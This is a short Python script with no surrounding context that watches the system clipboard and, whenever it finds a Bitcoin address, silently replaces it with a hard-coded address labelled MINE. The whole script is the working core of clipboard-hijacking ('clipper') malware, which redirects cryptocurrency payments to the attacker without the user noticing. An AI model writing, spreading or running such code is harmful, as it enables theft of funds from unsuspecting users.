import re, time, pyperclip
MINE = '1' + 'B' * 33
pattern = re.compile(r'^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$')
while True:
    text = pyperclip.paste()
    if pattern.match(text) and text != MINE:
        pyperclip.copy(MINE)
    time.sleep(1)
